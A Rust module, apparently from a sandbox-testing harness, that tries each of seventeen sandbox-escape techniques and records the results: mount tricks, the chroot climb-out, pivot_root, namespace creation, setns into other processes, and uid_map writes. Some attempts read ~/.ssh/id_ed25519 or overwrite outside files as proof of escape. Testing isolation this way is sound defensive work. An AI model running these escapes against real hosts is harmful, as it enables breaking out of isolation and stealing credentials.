//! Changes the view: mounting, remounting, unmounting, new namespaces, other roots.
//!
//! Each attack first tries to get its own mount namespace, so that it does not affect the view of the next one.

use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::path::Path;

use super::files::{here, overwrite};
use super::sys::{Arg, Forked, call, exit, fork, open_by, text, wait};
use super::world::look;
use super::{Attack, Tried, World};

pub(super) const ATTACKS: &[Attack] = &[
    ("mount-tmpfs", "mounts an empty folder over what is there", mount_tmpfs),
    ("mount-bind", "mounts other parts of the tree into its workspace", mount_bind),
    ("mount-remount", "makes read-only mounts writable", mount_remount),
    ("mount-umount", "takes covers away", mount_umount),
    ("mount-new-api", "the same by fsopen, open_tree, move_mount and mount_setattr", mount_new_api),
    ("mount-kernel-fs", "mounts proc, sysfs, cgroup, overlay, devpts, debugfs, binfmt_misc", mount_kernel),
    ("mount-propagation", "lets its mounts be seen outside", mount_propagation),
    ("pivot-root", "changes the root of its namespace", pivot),
    ("chroot-escape", "changes its root, and climbs out", chroot_escape),
    ("chroot-proc", "takes another process's root for its own", chroot_proc),
    ("unshare", "makes each kind of namespace for itself", unshare_all),
    ("clone-namespaces", "makes processes in new namespaces", clone_all),
    ("clone3-namespaces", "the same by clone3, of which a filter sees no flags", clone3_all),
    ("user-then-mount", "becomes root of a new user namespace and mounts there", user_then_mount),
    ("user-in-user", "nests user namespaces and gains capabilities in each", user_in_user),
    ("setns", "joins the namespaces of other processes", setns_all),
    ("uid-map", "maps itself to other users", uid_map),
];

const DETACH: i64 = 2;
const NAMESPACES: [(&str, i64); 8] = [
    ("user", 0x1000_0000),
    ("mount", 0x0002_0000),
    ("net", 0x4000_0000),
    ("pid", 0x2000_0000),
    ("ipc", 0x0800_0000),
    ("uts", 0x0400_0000),
    ("cgroup", 0x0200_0000),
    ("time", 0x80),
];
const NEW_USER: i64 = 0x1000_0000;
const NEW_MOUNTS: i64 = 0x0002_0000;

/// Tries to get its own mount namespace. Does nothing in the machine's namespace, where a mount would affect everyone.
fn own_mounts(world: &World, tried: &mut Tried) -> bool {
    if !world.shut_in() {
        tried.absent("namespaces to stay in");
        return false;
    }
    if unshare(NEW_MOUNTS).is_err() {
        let _ = unshare(NEW_USER | NEW_MOUNTS);
    }
    true
}

fn unshare(flags: i64) -> io::Result<i64> {
    call(libc::SYS_unshare, &mut [Arg::N(flags)])
}

fn mount(what: impl AsRef<Path>, at: impl AsRef<Path>, kind: &str, flags: u64) -> io::Result<i64> {
    let (what, at, kind) = (text(what), text(at), text(kind));
    let flags = Arg::N(flags.cast_signed());
    call(libc::SYS_mount, &mut [Arg::S(&what), Arg::S(&at), Arg::S(&kind), flags, Arg::N(0)])
}

fn folder(name: &str) -> std::path::PathBuf {
    let path = here(name);
    let _ = fs::create_dir(&path);
    path
}

fn mount_tmpfs(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    tried.way("over the workspace", mount("none", folder("m"), "tmpfs", 0));
    tried.way("over the home", mount("none", world.path("home"), "tmpfs", 0));
    tried.way("over /usr", mount("none", "/usr", "tmpfs", 0));
    let _ = fs::remove_dir("m");
}

fn mount_bind(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    let at = folder("m");
    for source in ["/", "/proc/1/root", "/tmp"] {
        if tried.way(source, mount(source, &at, "", libc::MS_BIND | libc::MS_REC)) {
            let file = world.path("file");
            let through =
                at.join(file.strip_prefix(source).unwrap_or(file.strip_prefix("/").unwrap_or(&file)));
            tried.way("and writes there", overwrite(through));
        }
    }
    tried.way("outside", mount(world.path("outside"), &at, "", libc::MS_BIND));
    let _ = fs::remove_dir("m");
}

/// Returns every mount, last first.
fn mounts() -> Vec<String> {
    let table = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mut list: Vec<String> =
        table.lines().filter_map(|line| line.split(' ').nth(4).map(|at| at.replace("\\040", " "))).collect();
    list.reverse();
    list
}

fn mount_remount(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    let mut all = mounts();
    all.push("/".to_owned());
    for at in all {
        for flags in [libc::MS_REMOUNT | libc::MS_BIND, libc::MS_REMOUNT] {
            tried.way(&at, mount("none", &at, "", flags));
        }
    }
    tried.way("and writes outside", overwrite(world.path("file")));
}

fn mount_umount(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    for at in mounts() {
        let path = text(&at);
        tried.way(&at, call(libc::SYS_umount2, &mut [Arg::S(&path), Arg::N(DETACH)]));
    }
    tried.way("and reads a key", look(world.path("home").join(".ssh/id_ed25519")));
    tried.way("and writes outside", overwrite(world.path("file")));
}

fn mount_new_api(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    let (at, name) = (text(folder("m")), text("tmpfs"));
    let made = || -> io::Result<i64> {
        let context = open_by(libc::SYS_fsopen, &mut [Arg::S(&name), Arg::N(0)])?;
        let raw: i64 = context.as_raw_fd().into();
        call(libc::SYS_fsconfig, &mut [Arg::N(raw), Arg::N(6), Arg::N(0), Arg::N(0), Arg::N(0)])?;
        let mounted = open_by(libc::SYS_fsmount, &mut [Arg::N(raw), Arg::N(0), Arg::N(0)])?;
        move_to(mounted.as_raw_fd(), &at)
    };
    tried.way("fsopen", made());
    let (root, outside) = (text("/"), text(world.path("outside")));
    for (name, path) in [("open_tree of /", &root), ("open_tree of the outside", &outside)] {
        let copied = || -> io::Result<i64> {
            let flags = Arg::N(1 | i64::from(libc::AT_RECURSIVE));
            let tree = open_by(libc::SYS_open_tree, &mut [Arg::N(-100), Arg::S(path), flags])?;
            move_to(tree.as_raw_fd(), &at)
        };
        tried.way(name, copied());
    }
    // attr_set, attr_clr (read only), propagation, userns
    let mut attributes = [0_u8; 32];
    attributes[8] = 1;
    let args = &mut [
        Arg::N(-100),
        Arg::S(&root),
        Arg::N(i64::from(libc::AT_RECURSIVE)),
        Arg::B(&mut attributes),
        Arg::N(32),
    ];
    tried.way("mount_setattr", call(libc::SYS_mount_setattr, args));
    let _ = fs::remove_dir("m");
}

fn move_to(tree: i32, at: &std::ffi::CStr) -> io::Result<i64> {
    let empty = c"";
    call(libc::SYS_move_mount, &mut [Arg::N(tree.into()), Arg::S(empty), Arg::N(-100), Arg::S(at), Arg::N(4)])
}

fn mount_kernel(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    let at = folder("m");
    for kind in [
        "proc",
        "sysfs",
        "cgroup2",
        "cgroup",
        "devpts",
        "mqueue",
        "debugfs",
        "tracefs",
        "binfmt_misc",
        "bpf",
        "securityfs",
    ] {
        tried.way(kind, mount(kind, &at, kind, 0));
    }
    let (what, to, kind, options) = (text("overlay"), text(&at), text("overlay"), text("lowerdir=/:/usr"));
    let args = &mut [Arg::S(&what), Arg::S(&to), Arg::S(&kind), Arg::N(0), Arg::S(&options)];
    tried.way("overlay", call(libc::SYS_mount, args));
    let _ = fs::remove_dir("m");
}

fn mount_propagation(world: &World, tried: &mut Tried) {
    if !world.shut_in() {
        return tried.absent("namespaces to stay in");
    }
    // Don't unshare first: this tests whether its own mounts become visible outside.
    let shared = mount("none", "/", "", libc::MS_REC | libc::MS_SHARED);
    if shared.is_ok() {
        let at = world.path("outside");
        if tried.way("shared, and a mount outside", mount("none", &at, "tmpfs", 0)) {
            let at = text(at);
            let _ = call(libc::SYS_umount2, &mut [Arg::S(&at), Arg::N(DETACH)]);
        }
    } else {
        tried.way("shared", shared);
    }
}

fn pivot(world: &World, tried: &mut Tried) {
    if !own_mounts(world, tried) {
        return;
    }
    let at = folder("m");
    let moved = mount("none", &at, "tmpfs", 0).and_then(|_| {
        fs::create_dir(at.join("old"))?;
        let (new, old) = (text(&at), text(at.join("old")));
        call(libc::SYS_pivot_root, &mut [Arg::S(&new), Arg::S(&old)])
    });
    tried.way("a new root", moved);
    tried.way("the root for itself", call(libc::SYS_pivot_root, &mut [Arg::S(c"."), Arg::S(c".")]));
    let _ = fs::remove_dir("m");
}

fn chroot_escape(world: &World, tried: &mut Tried) {
    let trap = folder("m");
    let escaped = || -> io::Result<String> {
        let up = text("../".repeat(40));
        let trap = text(&trap);
        call(libc::SYS_chroot, &mut [Arg::S(&trap)])?;
        call(libc::SYS_chdir, &mut [Arg::S(&up)])?;
        call(libc::SYS_chroot, &mut [Arg::S(c".")])?;
        look(world.path("home").join(".ssh/id_ed25519"))
    };
    tried.way("climb", escaped());
    let _ = fs::remove_dir("m");
}

fn chroot_proc(world: &World, tried: &mut Tried) {
    let parent = std::os::unix::process::parent_id();
    for root in [
        "/proc/1/root".to_owned(),
        format!("/proc/{parent}/root"),
        format!("/proc/{}/root", world.pid("victim")),
    ] {
        let entered = || -> io::Result<String> {
            let root = text(&root);
            call(libc::SYS_chroot, &mut [Arg::S(&root)])?;
            look(world.path("home").join(".ssh/id_ed25519"))
        };
        tried.way(&root, entered());
    }
}

/// Runs `act` in a child, which exits with the error number.
fn in_child(act: impl FnOnce() -> io::Result<i64>) -> io::Result<&'static str> {
    match fork()? {
        Forked::Child => exit(act().map_or_else(|error| error.raw_os_error().unwrap_or(255), |_| 0)),
        Forked::Parent(pid) => ended(wait(pid)),
    }
}

fn ended(status: i32) -> io::Result<&'static str> {
    match libc::WEXITSTATUS(status) {
        0 if libc::WIFEXITED(status) => Ok("made"),
        0 => Err(io::Error::from_raw_os_error(libc::EPERM)),
        errno => Err(io::Error::from_raw_os_error(errno)),
    }
}

fn unshare_all(_: &World, tried: &mut Tried) {
    for (name, flag) in NAMESPACES {
        tried.way(name, in_child(|| unshare(flag)));
        if flag != NEW_USER {
            tried.way(&format!("user and {name}"), in_child(|| unshare(NEW_USER | flag)));
        }
    }
}

/// Handles a process created by a call: the child exits, the parent reaps it.
fn made(got: io::Result<i64>) -> io::Result<&'static str> {
    match got? {
        0 => exit(0),
        pid => ended(wait(i32::try_from(pid).unwrap_or(-1))),
    }
}

fn clone_all(_: &World, tried: &mut Tried) {
    for (name, flag) in NAMESPACES.into_iter().filter(|(name, _)| *name != "time") {
        for (with, more) in [("", 0), (" with user", NEW_USER)] {
            let flags = Arg::N(flag | more | i64::from(libc::SIGCHLD));
            let got = call(libc::SYS_clone, &mut [flags, Arg::N(0), Arg::N(0), Arg::N(0), Arg::N(0)]);
            tried.way(&format!("{name}{with}"), made(got));
        }
    }
}

fn clone3_all(_: &World, tried: &mut Tried) {
    for (name, flag) in NAMESPACES.into_iter().filter(|(name, _)| *name != "time") {
        for (with, more) in [("", 0), (" with user", NEW_USER)] {
            let mut args = [0_u8; 88];
            args[..8].copy_from_slice(&(flag | more).to_ne_bytes());
            args[32..40].copy_from_slice(&i64::from(libc::SIGCHLD).to_ne_bytes());
            let got = call(libc::SYS_clone3, &mut [Arg::B(&mut args), Arg::N(88)]);
            tried.way(&format!("{name}{with}"), made(got));
        }
    }
}

fn user_then_mount(world: &World, tried: &mut Tried) {
    let became = unshare(NEW_USER | NEW_MOUNTS);
    let refused = became.is_err();
    tried.way("user and mount", became);
    if refused {
        return;
    }
    let at = folder("m");
    tried.way("bind", mount("/", &at, "", libc::MS_BIND | libc::MS_REC));
    tried.way("remount", mount("none", "/", "", libc::MS_REMOUNT | libc::MS_BIND));
    tried.way("and writes", overwrite(world.path("file")));
    let _ = fs::remove_dir("m");
}

fn user_in_user(_: &World, tried: &mut Tried) {
    for depth in 1..=3 {
        let nested = unshare(NEW_USER);
        let gained = nested.and_then(|_| {
            let status = fs::read_to_string("/proc/self/status")?;
            let caps = status.lines().find_map(|line| line.strip_prefix("CapEff:")).unwrap_or_default();
            Ok(format!("capabilities {}", caps.trim()))
        });
        tried.way(&format!("level {depth}"), gained);
    }
}

fn setns_all(world: &World, tried: &mut Tried) {
    let parent = std::os::unix::process::parent_id().cast_signed();
    for pid in [1, parent, world.pid("victim")] {
        for name in ["user", "mnt", "net", "pid", "ipc", "uts", "cgroup"] {
            let path = format!("/proc/{pid}/ns/{name}");
            // Its own namespace is no gain.
            if fs::read_link(&path).ok() == fs::read_link(format!("/proc/self/ns/{name}")).ok()
                && Path::new(&path).exists()
            {
                continue;
            }
            let joined = File::open(&path)
                .and_then(|open| call(libc::SYS_setns, &mut [Arg::N(open.as_raw_fd().into()), Arg::N(0)]));
            tried.way(&path, joined);
        }
    }
    let joined = open_by(libc::SYS_pidfd_open, &mut [Arg::N(world.pid("victim").into()), Arg::N(0)])
        .and_then(|open| call(libc::SYS_setns, &mut [Arg::N(open.as_raw_fd().into()), Arg::N(NEW_MOUNTS)]));
    tried.way("by pidfd", joined);
}

fn uid_map(_: &World, tried: &mut Tried) {
    for file in ["uid_map", "gid_map", "setgroups", "projid_map"] {
        let value = if file == "setgroups" { "allow" } else { "0 0 1\n" };
        tried.way(file, fs::write(format!("/proc/self/{file}"), value).map(|()| "written"));
        tried.way("of pid 1", fs::write(format!("/proc/1/{file}"), value).map(|()| "written"));
    }
}
